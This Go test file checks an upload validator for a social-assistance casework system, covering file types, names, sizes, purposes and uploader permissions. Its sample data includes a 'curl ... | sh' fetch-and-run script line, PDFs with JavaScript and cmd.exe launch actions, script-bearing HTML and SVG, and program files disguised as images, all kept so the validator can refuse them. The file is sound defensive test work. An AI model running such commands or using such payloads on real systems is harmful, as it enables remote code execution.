package casework

import (
	"archive/zip"
	"bytes"
	"image"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"safetynet/internal/apperr"
	"safetynet/internal/policy"
)

// samples are real files of each kind, made by the standard library where
// it can write them and by hand (their documented first bytes) where not.
func samples(t *testing.T) map[string][]byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 2, 2))
	var jp, pn, gi, docx bytes.Buffer
	if err := jpeg.Encode(&jp, img, nil); err != nil {
		t.Fatal(err)
	}
	if err := png.Encode(&pn, img); err != nil {
		t.Fatal(err)
	}
	if err := gif.Encode(&gi, img, nil); err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(&docx)
	w, _ := zw.Create("[Content_Types].xml")
	w.Write([]byte(`<?xml version="1.0"?><Types/>`))
	zw.Close()
	return map[string][]byte{
		"jpeg":       jp.Bytes(),
		"png":        pn.Bytes(),
		"gif":        gi.Bytes(),
		"docx":       docx.Bytes(),
		"pdf":        []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"),
		"pdf-js":     []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n"),
		"pdf-launch": []byte("%PDF-1.4\n1 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n%%EOF\n"),
		"exe":        append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), "This program cannot be run in DOS mode."...),
		"elf":        []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"),
		"macho":      []byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"),
		"script":     []byte("#!/bin/sh\ncurl http://example.invalid/x | sh\n"),
		"doc":        []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00\x00\x00\x00\x00"),
		"html":       []byte("\xef\xbb\xbf\n  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
		"svg":        []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		"heic":       []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic\x00\x00\x00\x00"),
		"text":       []byte("申请书：本人因病丧失劳动能力……"),
	}
}

func TestCheckUpload(t *testing.T) {
	s := samples(t)
	for _, c := range []struct {
		name, purpose, file, sample string
		max                         int64
		want                        string      // content type, when accepted
		code                        apperr.Code // when refused
		field                       string
		says                        []string // the message names these
	}{
		{name: "OKJPEG", purpose: PurposeVisitPhoto, file: "visit.jpg", sample: "jpeg", want: JPEG},
		{name: "OKJPEGUpperCase", purpose: "identity_document", file: "IMG_0001.JPEG", sample: "jpeg", want: JPEG},
		{name: "OKPNG", purpose: "hukou_booklet", file: "户口簿.png", sample: "png", want: PNG},
		{name: "OKPDF", purpose: "income_statement", file: `C:\Users\wang\Desktop\收入证明.pdf`, sample: "pdf", want: PDF},
		{name: "ErrExeAsJPEG", purpose: PurposeVisitPhoto, file: "photo.jpg", sample: "exe", code: apperr.Invalid, field: "file", says: []string{"photo.jpg", "Windows program"}},
		{name: "ErrELFAsPNG", purpose: "identity_document", file: "id.png", sample: "elf", code: apperr.Invalid, field: "file", says: []string{"id.png", "Linux program"}},
		{name: "ErrMachOAsPDF", purpose: "income_statement", file: "x.pdf", sample: "macho", code: apperr.Invalid, field: "file", says: []string{"x.pdf", "macOS program"}},
		{name: "ErrScriptAsJPEG", purpose: PurposeVisitPhoto, file: "a.jpg", sample: "script", code: apperr.Invalid, field: "file", says: []string{"a.jpg", "script"}},
		{name: "ErrOfficeXAsPDF", purpose: "medical_bills", file: "bills.pdf", sample: "docx", code: apperr.Invalid, field: "file", says: []string{"bills.pdf", "ZIP archive or an Office document"}},
		{name: "ErrOfficeOLE", purpose: "medical_bills", file: "bills.doc", sample: "doc", code: apperr.Invalid, field: "file", says: []string{"bills.doc", "Office document (.doc, .xls)"}},
		{name: "ErrHTMLAsPNG", purpose: "identity_document", file: "id.png", sample: "html", code: apperr.Invalid, field: "file", says: []string{"id.png", "HTML page"}},
		{name: "ErrSVG", purpose: PurposeVisitPhoto, file: "home.svg", sample: "svg", code: apperr.Invalid, field: "file", says: []string{"home.svg", "SVG image"}},
		{name: "ErrHEIC", purpose: PurposeVisitPhoto, file: "IMG_0002.HEIC", sample: "heic", code: apperr.Invalid, field: "file", says: []string{"IMG_0002.HEIC", "HEIC", "JPEG"}},
		{name: "ErrGIF", purpose: PurposeVisitPhoto, file: "a.gif", sample: "gif", code: apperr.Invalid, field: "file", says: []string{"GIF image"}},
		{name: "ErrText", purpose: "application_form", file: "申请书.txt", sample: "text", code: apperr.Invalid, field: "file", says: []string{"申请书.txt", "text file"}},
		{name: "ErrPDFAsJPEG", purpose: "identity_document", file: "photo.jpg", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"photo.jpg", "PDF document", ".pdf"}},
		{name: "ErrPNGAsJPEG", purpose: "identity_document", file: "photo.jpg", sample: "png", code: apperr.Invalid, field: "file", says: []string{"photo.jpg", "PNG image", ".png"}},
		{name: "ErrJPEGAsPDF", purpose: "income_statement", file: "scan.pdf", sample: "jpeg", code: apperr.Invalid, field: "file", says: []string{"scan.pdf", ".jpg or .jpeg"}},
		{name: "ErrNoEnding", purpose: "income_statement", file: "scan", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"scan", ".pdf"}},
		{name: "ErrPDFVisitPhoto", purpose: PurposeVisitPhoto, file: "visit.pdf", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"visit.pdf", "JPEG or PNG"}},
		{name: "ErrPDFWithJavaScript", purpose: "income_statement", file: "a.pdf", sample: "pdf-js", code: apperr.Invalid, field: "file", says: []string{"a.pdf", "scripts"}},
		{name: "ErrPDFLaunch", purpose: "income_statement", file: "a.pdf", sample: "pdf-launch", code: apperr.Invalid, field: "file", says: []string{"a.pdf", "programs"}},
		{name: "ErrEmpty", purpose: "income_statement", file: "a.pdf", sample: "", code: apperr.Invalid, field: "file", says: []string{"a.pdf", "empty"}},
		{name: "ErrTooLarge", purpose: "income_statement", file: "a.pdf", sample: "pdf", max: 16, code: apperr.TooLarge, field: "file", says: []string{"a.pdf", "larger than the limit of"}},
		{name: "ErrNoName", purpose: "income_statement", file: "  ", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"choose a file"}},
		{name: "ErrControlInName", purpose: "income_statement", file: "a\x00.pdf", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"not allowed"}},
		{name: "ErrLongName", purpose: "income_statement", file: strings.Repeat("长", MaxFilename) + ".pdf", sample: "pdf", code: apperr.Invalid, field: "file", says: []string{"longer than 200"}},
		{name: "ErrPurposeUnknown", purpose: "selfie", file: "a.jpg", sample: "jpeg", code: apperr.Invalid, field: "purpose", says: []string{`"selfie"`}},
		{name: "ErrPurposeMissing", purpose: "", file: "a.jpg", sample: "jpeg", code: apperr.Invalid, field: "purpose"},
	} {
		t.Run(c.name, func(t *testing.T) {
			max := c.max
			if max == 0 {
				max = 1 << 20
			}
			ct, err := CheckUpload(c.purpose, c.file, s[c.sample], max)
			if c.code == "" {
				if err != nil || ct != c.want {
					t.Fatalf("got %q, %v; want %q", ct, err, c.want)
				}
				return
			}
			e := apperr.As(err)
			if e == nil || e.Code != c.code || e.Field != c.field {
				t.Fatalf("got %q, %v; want a %s error on %s", ct, err, c.code, c.field)
			}
			for _, w := range c.says {
				if !strings.Contains(e.Message, w) {
					t.Errorf("got message %q, want it to say %q", e.Message, w)
				}
			}
		})
	}
	if _, err := CheckUpload("income_statement", "a.pdf", s["pdf"], 32<<20); err != nil {
		t.Fatal(err)
	}
	if _, err := CheckUpload("income_statement", "a.pdf", bytes.Repeat([]byte("%PDF-"), 1<<20), 4<<20); !strings.Contains(err.Error(), "limit of 4 MB") {
		t.Fatalf("over 4 MB: %v", err)
	}
	for _, m := range policy.Materials {
		if err := CheckPurpose(m); err != nil {
			t.Errorf("material %s: %v", m, err)
		}
	}
}

func TestNewAttachmentChecksWhoMayUpload(t *testing.T) {
	f := newFixture(t)
	s := samples(t)
	a := f.app(policy.Dibao, "")
	att, err := NewAttachment(a, "income_statement", "收入证明.pdf", s["pdf"], 1<<20, &f.env)
	if err != nil || att.ContentType != PDF || att.Size != int64(len(s["pdf"])) || len(att.SHA256) != 64 || att.UploadedBy != "zhang" || att.County != "440105" {
		t.Fatalf("got %+v, %v", att, err)
	}
	for _, c := range []struct {
		name    string
		actor   Actor
		state   State
		purpose string
		want    apperr.Code // "" for allowed
	}{
		{"PhotoBeforeAcceptance", caseworker, Submitted, PurposeVisitPhoto, apperr.Conflict},
		{"PhotoDuringInvestigation", village, Investigating, PurposeVisitPhoto, ""},
		{"AnotherTownship", elsewhere, Submitted, "income_statement", apperr.NotFound},
		{"TheApplicant", Actor{PersonID: 700}, Incomplete, "income_statement", ""},
		{"SomeoneElse", Actor{PersonID: 701}, Incomplete, "income_statement", apperr.Forbidden},
		{"AfterTheDecision", caseworker, Approved, "income_statement", apperr.Conflict},
	} {
		t.Run(c.name, func(t *testing.T) {
			b := *a
			b.State = c.state
			data, file := s["pdf"], "a.pdf"
			if c.purpose == PurposeVisitPhoto {
				data, file = s["jpeg"], "v.jpg"
			}
			_, err := NewAttachment(&b, c.purpose, file, data, 1<<20, &f.as(c.actor).env)
			if got := apperr.CodeOf(err); got != c.want {
				t.Fatalf("got %v (%q), want %q", err, got, c.want)
			}
		})
	}
}
